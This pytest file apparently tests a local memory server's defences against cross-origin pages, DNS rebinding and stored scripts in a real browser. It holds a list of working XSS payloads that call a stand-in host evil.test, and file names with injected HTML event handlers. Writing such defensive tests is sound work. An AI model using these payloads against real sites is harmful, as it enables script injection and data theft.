"""Pages of other sites, DNS rebinding and stored scripts in a real browser: nothing is read, written or run."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from support import serving, tally
from support.browser import find_browser
from support.http import HttpServer, Request, Response

from recollect import Memory
from recollect.config import Settings

ATTACKS = Path(__file__).with_name("attacks.js").read_text()
KINDS = {"read", "write", "xhr", "image", "script", "style", "frame", "form", "socket", "events", "beacon"}
SECRET = "zqsecret"
RUN = "fetch('http://evil.test/ran');window.ran=1"
PAYLOADS = tuple(
    template.replace("RUN", RUN)
    for template in (
        "<script>RUN</script>", '<img src=x onerror="RUN">', '<svg/onload="RUN">', '<body onload="RUN">',
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", "javascript:RUN", "[x](javascript:RUN)",
        '![x](x"onerror="RUN)', '<a href="javascript:RUN">zq</a>', "'\"><script>RUN</script>",
        "</textarea><script>RUN</script>", "</title><script>RUN</script>", "--><script>RUN</script>",
        "{{constructor.constructor('RUN')()}}", "${RUN}", "<math><mtext><img src=x onerror=RUN>",
        '<details open ontoggle="RUN">', '<video><source onerror="RUN">',
        "<style>@import 'http://evil.test/x'</style>", "<link rel=stylesheet href=http://evil.test/x>",
        "<base href=http://evil.test/>", "<meta http-equiv=refresh content='0;url=http://evil.test'>",
        '<form action=http://evil.test><button autofocus onfocus="RUN">', "&lt;script&gt;RUN&lt;/script&gt;",
        "\u202e<script>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>", '<object data="javascript:RUN">',
    )
)  # fmt: skip
FILE_NAMES = ("<img src=x onerror=window.ran=1>.md", '"onmouseover="window.ran=1".md', "'><svg onload=window.ran=1>.md")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The home folder of the server, with a store full of scripts."""
    home = tmp_path_factory.mktemp("home")
    notes = home / "notes"
    notes.mkdir()
    for number, (name, payload) in enumerate(zip(FILE_NAMES * 9, PAYLOADS, strict=True)):
        (notes / f"{number}{name}").write_text(
            f"---\ntitle: {payload!r}\n---\n# {payload}\n\nNote {number} {payload}\n"
        )
    with Memory.open(home / "memory.db", embedder="hashing:64", settings=Settings()) as memory:
        memory.add("A secret of this machine.", id=SECRET)
        for number, payload in enumerate(PAYLOADS):
            fields = {"title": payload, "tags": [payload.replace(",", "")], "category": payload, "source": payload}
            memory.add(f"Note {number} {payload}", id=f"n{number}{payload}"[:200], **fields)
        memory.index(notes)
    return home


@pytest.fixture(scope="module")
def site(home: Path) -> Iterator[str]:
    """A server without tokens: every caller of this machine is the owner."""
    with serving.serving(home / "memory.db", home) as address:
        yield address


@pytest.fixture(scope="module")
def foreign() -> Iterator[HttpServer]:
    """A web server of somebody else."""
    page = f"<!doctype html><title>evil</title><iframe name=sink></iframe><script>{ATTACKS}</script>"

    def respond(_request: Request) -> Response:
        return Response(content=page.encode(), headers={"Content-Type": "text/html"})

    with HttpServer(respond) as server:
        yield server


@pytest.fixture(scope="module")
def resolving(browser: Any) -> Iterator[Any]:
    """A browser for which every name below .test is this machine."""
    rules = "--host-resolver-rules=MAP *.test 127.0.0.1"
    running = browser.browser_type.launch(executable_path=find_browser(), args=["--no-sandbox", rules])
    yield running
    running.close()


def contents(home: Path) -> tuple[list[Any], Any]:
    """All records, and how often anything was changed."""
    with Memory.open(home / "memory.db", embedder="hashing:64", settings=Settings()) as memory:
        return memory.list(limit=1000, any_scope=True, superseded=True), memory.store.status()["records"]


@pytest.mark.ci
@pytest.mark.parametrize(
    "count", [pytest.param(240, id="short"), pytest.param(3_000, id="long", marks=[pytest.mark.torture])]
)
def test_pages_of_other_sites_read_and_write_nothing(
    resolving: Any, site: str, foreign: HttpServer, home: Path, count: int
) -> None:
    """By fetch, forms, images, scripts, styles, frames, sockets, events and beacons, from three kinds of origin."""
    before = contents(home)
    origins = {
        "another site": f"http://evil.test:{foreign.port}",
        "another port": foreign.url,
        "a name with this machine's address": f"http://localhost.evil.test:{foreign.port}",
    }
    kinds: Counter[str] = Counter()
    for name, origin in origins.items():
        page = resolving.new_page()
        page.goto(origin)
        own = page.evaluate("target => window.attack(target, 60)", origin)
        assert {"read", "write", "xhr"} <= {kind for kind, read in own if read}, "it can read its own server"
        results = page.evaluate("([target, count]) => window.attack(target, count)", [site, count // len(origins)])
        assert [kind for kind, read in results if read] == [], name
        kinds += Counter(kind for kind, _ in results)
        page.close()
    assert kinds.keys() == KINDS
    assert kinds.total() >= count - len(origins)
    assert contents(home) == before
    log = (home / "serve.log").read_text()
    assert "Traceback" not in log
    tally.note("a hostile page in a browser", attempts=kinds.total(), kinds=len(kinds), origins=3, read=0, written=0)


@pytest.mark.ci
def test_rebound_name_reads_nothing(resolving: Any, site: str, home: Path) -> None:
    """A page whose name resolves to this machine after it was loaded is of its own origin, and is still refused."""
    port, before = urlsplit(site).port, contents(home)
    page = resolving.new_page()
    statuses = Counter()
    for name in ("rebind.test", "localhost.rebind.test", "127.0.0.1.rebind.test"):
        answer = page.goto(f"http://{name}:{port}/")
        assert answer.status == 403
        for path in (
            "/v1/status",
            "/v1/records",
            f"/v1/records/{SECRET}",
            "/openapi.json",
            "/static/style.css",
            "/mcp",
        ):
            got = page.evaluate("p => fetch(p).then(async a => [a.status, await a.text()])", path)
            statuses[got[0]] += 1
            assert SECRET not in got[1]
        sent = {"method": "POST", "headers": {"Content-Type": "application/json"}, "body": '{"text": "evil"}'}
        statuses[page.evaluate("sent => fetch('/v1/records', sent).then(a => a.status)", sent)] += 1
    page.close()
    assert statuses == {403: 21}
    assert contents(home) == before


@pytest.mark.ci
def test_stored_scripts_never_run(open_page: Any, site: str, home: Path) -> None:
    """In texts, titles, tags, categories, sources, ids, paths and Markdown, on every view that shows them."""
    records = contents(home)[0]
    hashes = ["#/search?q=Note&limit=100", "#/search?q=Note+script&by=chunk&limit=100&compare=1", "#/status", "#/add"]
    hashes += [f"#/search?q={quote(payload)}" for payload in PAYLOADS[::4]]
    hashes += [f"#/record/{quote(record.id, safe='')}" for record in records[:: max(1, len(records) // 14)]]
    page, shown = open_page(site), 0
    for hash_ in hashes:
        page.goto(f"{site}/{hash_}")
        page.locator("main .view :is(h1, h2, h3, article, li, form, p)").first.wait_for(state="attached")
        page.wait_for_timeout(200)  # for what a script would do after it was put in
        assert page.evaluate("window.ran") is None, hash_
        assert page.locator("main :is(script, img, iframe, object, base, link, meta, video)").count() == 0, hash_
        shown += "onerror" in page.locator("main").inner_text()
    assert [url for url in page.asked if not url.startswith((site, "data:"))] == []
    assert shown >= len(hashes) // 2, "the scripts are shown, as text"
    tally.note(
        "stored scripts in a browser", payloads=len(PAYLOADS), views=len(hashes), views_that_show_them=shown, ran=0
    )
